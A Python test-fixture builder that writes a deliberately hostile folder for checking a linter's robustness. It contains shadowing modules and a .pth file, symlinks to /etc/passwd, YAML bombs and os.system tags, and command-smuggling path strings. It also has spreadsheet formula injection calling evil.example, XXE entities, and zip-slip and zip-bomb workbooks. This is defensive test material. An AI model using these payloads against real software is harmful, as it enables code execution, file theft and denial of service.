"""Builds a lab folder that somebody wrote who wishes us ill, around a sound lab that is judged."""

from __future__ import annotations

import functools
import io
import os
import shutil
import socket
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "example_methods"
SECRET = "the-words-of-somebody-else"
# What Python, pytest, our dependencies or we might import, were the lab's folder on the path.
SHADOWS = (
    "numpy.py", "pydantic.py", "pydantic_core.py", "click.py", "rich.py", "CoolProp.py",
    "openpyxl.py", "ruamel/__init__.py", "ruamel/yaml/__init__.py", "yaml.py", "colorama.py",
    "typing_extensions.py", "annotated_types.py", "readline.py", "json.py", "re.py", "zipfile.py",
    "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "plugin.py", "distributed.py",
    "matplotlib.py", "dataclasses.py", "rules.py",
    "rules/__init__.py", "rules/pressure/low_limit_missing.py", "rules/house/own.py",
    "our-rules/house/settles_too_short.py", "our-rules/house/__init__.py", "our-rules/__init__.py",
    "columns/numpy.py", "columns/__init__.py", "__init__.py", "__main__.py",
)  # fmt: skip
# What `python -m methodlint` takes from the working folder before a line of ours is read.
OURS = ("importlib/__init__.py", "encodings/__init__.py", "runpy.py", "pkgutil.py",
        "methodlint/__init__.py", "methodlint/__main__.py", "methodlint/cli.py")  # fmt: skip
CODE = """\
import pathlib
with open({trace!r}, "a") as stream:
    stream.write(__file__ + "\\n")
raise SystemExit("this file was run")
"""
PATHS = (
    "../../outside/secret", "../outside/secret.yaml", "/etc/passwd", "~root/.profile", "~", "$HOME",
    "${{HOME}}/x", "file:///etc/passwd", "https://evil.example/a", "C:\\\\Windows\\\\win", "\\\\\\\\host\\\\share",
    "..", ".", "", "secret\\0.yaml", "columns/amylose-3um", "n" * 5_000, "-rf", "con", "nul.yaml",
    "outside-file", "outside-folder/secret", "loop", "pipe", "zero", "locked", "`id`", "$(id)", "|id", "%00",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """Where things lie.

    Attributes
    ----------
    lab
        The folder to check.
    outside
        What nobody may open.
    trace
        A file that exists as soon as code of the lab has run.
    home
        An empty home of the user.
    """

    lab: Path
    outside: Path
    trace: Path
    home: Path


def build(base: Path, *, ours: bool = True) -> Hostile:
    """Write the hostile lab.

    Parameters
    ----------
    base
        An empty folder.
    ours
        Put a package of our own name there too, and Python's own modules that run others: when
        it is told to run `-m methodlint` in that folder, Python itself prefers these.
    """
    made = Hostile(base / "lab", base / "outside", base / "trace.txt", base / "home")
    for folder in (made.outside, made.home):
        folder.mkdir()
    shutil.copytree(EXAMPLES, made.lab, ignore=shutil.ignore_patterns("*.expected.txt", "*.py"))
    _code(made, (*SHADOWS, *(OURS if ours else ())))
    _links(made)
    _bombs(made.lab / "methods")
    _references(made.lab)
    _tables(made)
    return made


def _code(made: Hostile, names: tuple[str, ...]) -> None:
    for name in names:
        file = made.lab / name
        file.parent.mkdir(parents=True, exist_ok=True)
        if not (file.parent.with_suffix(".py").exists() and file.name == "__init__.py"):
            file.write_text(CODE.format(trace=str(made.trace)))
    (made.lab / "evil.pth").write_text(f"import os; open({str(made.trace)!r}, 'a').close()\n")
    (made.lab / "pyvenv.cfg").write_text("home = .\n")
    (made.lab / "pyproject.toml").write_text('[tool.methodlint]\nplugins = ["plugin"]\n')
    (made.lab / "pytest.ini").write_text("[pytest]\naddopts = -p plugin\n")
    lab = made.lab / "lab.yaml"
    lab.write_text(lab.read_text() + "rule_folders: [our-rules, ../outside, plugin.py]\n")


def _links(made: Hostile) -> None:
    secret = made.outside / "secret.yaml"
    secret.write_text(f"kind: column\nname: {SECRET}\n")
    (made.outside / "house").mkdir()
    (made.outside / "house" / "other_rule.py").write_text(CODE.format(trace=str(made.trace)))
    methods = made.lab / "methods"
    for link, target in (
        ("outside-file.yaml", secret), ("outside-relative.yaml", "../../outside/secret.yaml"),
        ("outside-folder", made.outside), ("passwd.yaml", "/etc/passwd"), ("zero.yaml", "/dev/zero"),
        ("terminal.yaml", "/dev/tty"), ("loop.yaml", "loop.yaml"), ("to.yaml", "fro.yaml"),
        ("fro.yaml", "to.yaml"), ("again", "."), ("up", ".."), ("nowhere.yaml", "no-such-file"),
        ("memory.yaml", "/proc/self/mem"),
    ):  # fmt: skip
        (methods / link).symlink_to(target)
    (made.lab / "columns" / "secret.yaml").symlink_to(secret)
    (made.lab / "columns" / "loop.yaml").symlink_to("loop.yaml")
    os.mkfifo(methods / "pipe.yaml")
    os.mkfifo(made.lab / "columns" / "pipe.yaml")
    # Names of sockets are short; the folder may not be.
    here = os.getcwd()
    os.chdir(methods)
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("listening.yaml")
    finally:
        os.chdir(here)
    (methods / "folder.yaml").mkdir()
    (methods / "locked.yaml").write_text("kind: method\n")
    (methods / "locked.yaml").chmod(0)
    (methods / "locked-folder").mkdir()
    (methods / "locked-folder" / "inside.yaml").write_text("kind: method\n")
    (methods / "locked-folder").chmod(0)
    (methods / "\udcff\n\x1b[2J.yaml").write_text("kind: method\n")
    (methods / ("n" * 250 + ".yaml")).write_text("kind: method\n")


def _bombs(methods: Path) -> None:
    head = "kind: method\n"
    for name, text in bombs().items():
        (methods / f"{name}.yaml").write_bytes((head + text).encode("utf-8", "surrogateescape"))


def bombs() -> dict[str, str]:
    """Texts that cost much or stop a parser that is not prepared, each below 2 MiB."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 9)]
    merged = "b: &b {" + ", ".join(f"k{n}: 1" for n in range(2_100)) + "}\n"
    chain = "m0: &m0 {a: 1}\n" + "".join(
        f"m{n}: &m{n} {{<<: *m{n - 1}, b{n}: 1}}\n" for n in range(1, 90)
    )
    return {
        "brackets": "a: " + "[" * (2 * 2**20 - 100),
        "braces": "a: " + "{a: " * 500_000,
        "dashes": "a:\n" + "- " * 1_000_000,
        "questions": "? " * 1_000_000,
        "aliases": "\n".join(lines) + "\n",
        "self-alias": "a: &a [*a]\n",
        "merges": merged + "".join(f"m{n}: {{<<: *b}}\n" for n in range(60)),
        "merge-chain": chain,
        "merge-list": "a: &a {b: 1}\nc: {<<: [*a, *a, *a]}\n",
        "commas": "a: [" + "," * 1_000_000 + "]\n",
        "many": "a: [" + "1, " * 600_000 + "]\n",
        "digits": "flow: " + "9" * 1_000_000 + "\n",
        "long-key": "k" * 1_000_000 + ": 1\n",
        "duplicates": "a: 1\n" * 300_000,
        "anchors": "".join(f"a{n}: &x{n} 1\n" for n in range(100_000)),
        "directives": "".join(f"%TAG !e{n}! tag:x,2000:\n" for n in range(50_000)),
        "documents": "---\na: 1\n" * 200_000,
        "tags": "a: !!python/object/apply:os.system ['id']\n",
        "new-tags": "a: !<tag:yaml.org,2002:python/name:os.system> x\n",
        "binary": "a: \x00\x01\udcff\udcfe\n",
        "quotes": "a: '" + "''" * 1_000_000,
        "escapes": 'a: "' + "\\x41" * 400_000 + '"\n',
        "block": "a: |\n" + "  x\n" * 500_000,
        "blanks": "a:" + " " * 2_000_000 + "1\n",
        "unknown-keys": "".join(f"flou{n}: 1\n" for n in range(60_000)),
        "one-line": "title: " + "x" * 60_000 + "\n",
    }


def _references(lab: Path) -> None:
    for number, name in enumerate(PATHS):
        quoted = f'"{name}"'
        (lab / "methods" / f"reference-{number}.yaml").write_text(
            textwrap.dedent(f"""\
                kind: method
                title: {quoted}
                column: {quoted}
                runs_on: [{quoted}, bench-a]
                transferred_from: {quoted}
                """)
        )
        (lab / "sound" / f"table-{number}.yaml").write_text(
            f"kind: sequence\ninstrument: bench-a\ntable: {quoted}\n"
        )


def _tables(made: Hostile) -> None:
    folder = made.lab / "sound"
    head = "Position,Sample,Method\n"
    rows = {
        "formulas.csv": head + "A1,=cmd|' /C calc'!A0,=HYPERLINK(\"http://evil.example\")\n" * 30,
        "quotes.csv": head + '"' * 300_000,
        "commas.csv": head + "," * 1_000_000 + "\n",
        "long-cell.csv": head + "A1," + "x" * 2_000_000 + ",m\n",
        "lines.csv": head + "A1,x,triazole-enantiomers\n" * 1_000,
        "nulls.csv": head + "\x00" * 1_000,
        "nothing.csv": "",
    }
    for name, text in rows.items():
        (folder / name).write_text(text)
    for name, data in workbooks().items():
        (folder / name).write_bytes(data)
    (folder / "outside.csv").symlink_to(made.outside / "samples.csv")
    (made.outside / "samples.csv").write_text(f"{head}A1,{SECRET},triazole-enantiomers\n")
    os.mkfifo(folder / "pipe.csv")
    (folder / "zero.csv").symlink_to("/dev/zero")
    names = [*rows, *workbooks(), "outside.csv", "pipe.csv", "zero.csv", "../../outside/samples.csv",
             "../sound/overnight-samples.csv", "/etc/passwd", "macro.xlsm", "old.xls"]  # fmt: skip
    for number, name in enumerate(names):
        (folder / f"of-a-table-{number}.yaml").write_text(
            f'kind: sequence\ninstrument: bench-a\ntable: "{name}"\n'
        )


@functools.cache
def workbooks() -> dict[str, bytes]:
    """Workbooks that unpack to much, that declare entities, that are damaged."""
    book = Workbook()
    sheet = book.active
    sheet.append(["Position", "Sample", "Method"])
    sheet.append(["A1", "=1+1", '=WEBSERVICE("http://evil.example")'])
    stream = io.BytesIO()
    book.save(stream)
    sound = stream.getvalue()
    entity = (
        b'<!DOCTYPE r [<!ENTITY s SYSTEM "file:///etc/passwd">'
        b'<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    part = "xl/worksheets/sheet1.xml"
    return {
        "formula.xlsx": sound,
        "bomb.xlsx": _with_part(sound, part, b"<worksheet>" + b" " * 300_000_000),
        "entity.xlsx": _with_part(sound, part, b'<?xml version="1.0"?>' + entity + b"<r>&s;</r>"),
        "wide-entity.xlsx": _with_part(
            sound, part, '<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + entity
        ),
        "late-entity.xlsx": _with_part(sound, part, b" " * 9_000 + entity + b"<r>&b;</r>"),
        "climbing.xlsx": _with_part(sound, "../../../../tmp/climbed.xml", b"<x/>"),
        "cut.xlsx": sound[: len(sound) // 2],
        "text.xlsx": b"Position,Sample\n",
    }


def _with_part(book: bytes, name: str, data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(
        stream, "w", zipfile.ZIP_DEFLATED
    ) as new:  # fmt: skip
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info, old.read(info))
        new.writestr(name, data)
    return stream.getvalue()
